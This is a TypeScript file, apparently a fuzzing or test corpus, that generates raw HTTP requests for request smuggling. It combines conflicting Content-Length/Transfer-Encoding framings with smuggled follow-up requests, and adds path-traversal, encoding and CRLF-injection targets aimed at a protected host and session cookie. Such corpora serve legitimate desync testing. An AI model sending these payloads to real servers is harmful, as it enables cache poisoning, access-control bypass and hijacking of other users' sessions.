/**
 * Requests that have fooled some server, proxy or cache. DOCS and HELLO stand for hosts (a public and a protected one), SESSION for
 * the Cookie of somebody who may pass, TAG for what makes a request this one.
 */
const lines = (...each: string[]): string => [...each, '', ''].join('\r\n')
const SMUGGLED = lines('GET /open/smuggled?TAG HTTP/1.1', 'Host: DOCS')
const GET = ['GET /open?TAG HTTP/1.1', 'Host: DOCS']
const POST = ['POST /open?TAG HTTP/1.1', 'Host: DOCS']

const FRAMINGS: readonly (readonly string[])[] = [
  ['Content-Length: 5', 'Transfer-Encoding: chunked'],
  ['Transfer-Encoding: chunked', 'Content-Length: 5'],
  ['Transfer-Encoding: chunked', 'Transfer-Encoding: x'],
  ['Transfer-Encoding: x', 'Transfer-Encoding: chunked'],
  ['Transfer-Encoding: chunked, identity'],
  ['Transfer-Encoding: identity, chunked'],
  ['Transfer-Encoding:\tchunked'],
  ['Transfer-Encoding: chunked '],
  ['Transfer-Encoding : chunked'],
  ['Transfer-Encoding:chunked'],
  ['Transfer_Encoding: chunked'],
  ['Transfer-Encoding: Chunked'],
  ['Transfer-Encoding: \x0cchunked'],
  ['Transfer-Encoding:', ' chunked'],
  ['X: x', ' Transfer-Encoding: chunked'],
  ['Content-Length: 0', 'Content-Length: 40'],
  ['Content-Length: 40', 'Content-Length: 40'],
  ['Content-Length: 0, 40'],
  ['Content-Length: 00'],
  ['Content-Length: 4_0'],
  ['Content-Length: 0x0'],
  ['Content-Length: \x0b0'],
  ['Content_Length: 40'],
  ['Connection: Content-Length', 'Content-Length: 0'],
  ['Connection: Transfer-Encoding', 'Transfer-Encoding: chunked'],
  ['Expect: 100-continue', 'Content-Length: 5'],
  ['Expect: 100-continue', 'Transfer-Encoding: chunked'],
  ['Expect: x', 'Content-Length: 0'],
  ['Upgrade: websocket', 'Connection: Upgrade', 'Content-Length: 40'],
  ['Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABk'],
]

const CONTENTS = [
  '',
  '0\r\n\r\n',
  'hello',
  '5\r\nhello\r\n0\r\n\r\n',
  '5;x=\r\nhello\r\n0\r\n\r\n',
  '5\nhello\n0\n\n',
  '5\r\nhello0\r\n\r\n',
  '005\r\nhello\r\n0\r\nX-Forwarded-User: a\r\n\r\n',
  'fffffffffffffffff5\r\nhello\r\n0\r\n\r\n',
  '0\r\nContent-Length: 40\r\nHost: HELLO\r\n\r\n',
]

const TARGETS = [
  '/open/..;/private?TAG',
  '/open/%2e%2e/private?TAG',
  '/open/..%2fprivate?TAG',
  '/open\\..\\private?TAG',
  '//HELLO/private?TAG',
  '/open//..//private?TAG',
  'http://HELLO/open?TAG',
  '/open#?TAG',
  '/open?TAG#x',
  '/private?TAG&/open',
  '/%6fpen?TAG',
  '/ope%6E/%7e?TAG',
  '/open%00?TAG',
  '/open%0d%0aX:%20y?TAG',
  '/open\x00?TAG',
  '/open\t?TAG',
  '/open?TAG\xff',
  '*?TAG',
  'open?TAG',
]

export const CORPUS: readonly string[] = [
  ...FRAMINGS.flatMap((framing) => CONTENTS.map((content) => lines(...POST, ...framing) + content + SMUGGLED)),
  ...TARGETS.flatMap((target) => [
    lines(`GET ${target} HTTP/1.1`, 'Host: DOCS'),
    lines(`GET ${target} HTTP/1.1`, 'Host: HELLO', 'Cookie: SESSION'),
    lines(`GET ${target} HTTP/1.1`, 'Host: HELLO'),
  ]),
  lines(...GET, 'Connection: close') + SMUGGLED,
  lines(...GET) + lines('GET /open?TAG&2 HTTP/1.1', 'Host: HELLO', 'Cookie: SESSION') + SMUGGLED,
  lines('GET /private?TAG HTTP/1.1', 'Host: HELLO', 'Cookie: SESSION') + SMUGGLED,
  lines(...GET, 'Host: HELLO') + SMUGGLED,
  lines('GET /open?TAG HTTP/1.0', 'Host: DOCS', 'Connection: keep-alive') + SMUGGLED,
  lines('GET /open?TAG HTTP/1.0', 'Host: DOCS') + SMUGGLED,
  'GET /open?TAG\r\n' + SMUGGLED,
  '\r\n\r\n' + lines(...GET),
  '\n' + lines(...GET),
  ' ' + lines(...GET),
  lines(...GET).slice(0, -2) + '\n',
  lines('GET  /open?TAG HTTP/1.1', 'Host: DOCS'),
  lines('GET\t/open?TAG\tHTTP/1.1', 'Host: DOCS'),
  lines('GET /open?TAG HTTP/1.1 ', 'Host: DOCS'),
  lines('GET /open?TAG HTTP/1.1', 'Host: DOCS:1'),
  lines('GET /open?TAG HTTP/1.1', 'host:DOCS\t'),
  lines('GET /open?TAG HTTP/1.1', 'Host: DOCS', 'X-A: a\x0bb', 'X-B: \x80\xff'),
  lines('HEAD /open?TAG HTTP/1.1', 'Host: DOCS', 'Content-Length: 5') + 'hello' + SMUGGLED,
  lines('OPTIONS /open?TAG HTTP/1.1', 'Host: DOCS', 'Max-Forwards: 0'),
  lines('POST /open?TAG HTTP/1.1', 'Host: HELLO', 'Cookie: SESSION', 'Content-Length: 62') + SMUGGLED,
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
]
